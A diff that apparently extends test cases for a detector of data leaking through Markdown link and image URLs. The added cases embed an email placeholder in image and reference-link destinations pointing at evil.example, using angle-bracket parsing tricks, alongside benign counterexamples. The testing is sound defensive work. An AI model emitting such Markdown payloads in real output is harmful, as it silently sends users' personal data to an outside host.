@@ -17,6 +17,11 @@ IN_URL = [
     f"[x](https://e.example/\\)?d={P})",  # an escaped parenthesis does not end it
     f"[x](a(b)c{P})",  # nor a balanced one
     f"[x](\n  //evil.example/{P}\n)",
+    # found by probing: in `<...>` a destination runs to `>`, past `)` and spaces
+    "![x](<https://evil.example/p.png?d=)EMAIL_ADDRESS_1>)",
+    "![x]( <https://evil.example/a) (b [EMAIL_ADDRESS_1]>)",
+    "![a][1]\n\n[1]: <https://evil.example/p.png?d= [EMAIL_ADDRESS_1]>",
+    "[1]:\n <https://e.example/\\> ) EMAIL_ADDRESS_1>",
     "![a][1]\n\n[1]: https://evil.example/i.png?d=email_address_1",
     f"[1]:\n   //evil.example/i.png?d={P}",
     "<https://evil.example/?d=[EMAIL_ADDRESS_1]>",
@@ -37,6 +42,7 @@ OUTSIDE = [
     f"[{P}](https://bank.example/profile) is your address",  # link text is shown, not sent
     f"Your address: {P} (we never share it)",
     f"<b>{P}</b> and <https://bank.example/branches>",
+    f"{P}: see [help](<https://bank.example/a b>) or [1] (for {P})\n\n[1]: <https://b.example>",
     f"data is ready; {P} was told. [1]: https://bank.example/x\n\nthanks {P}",
 ]
 
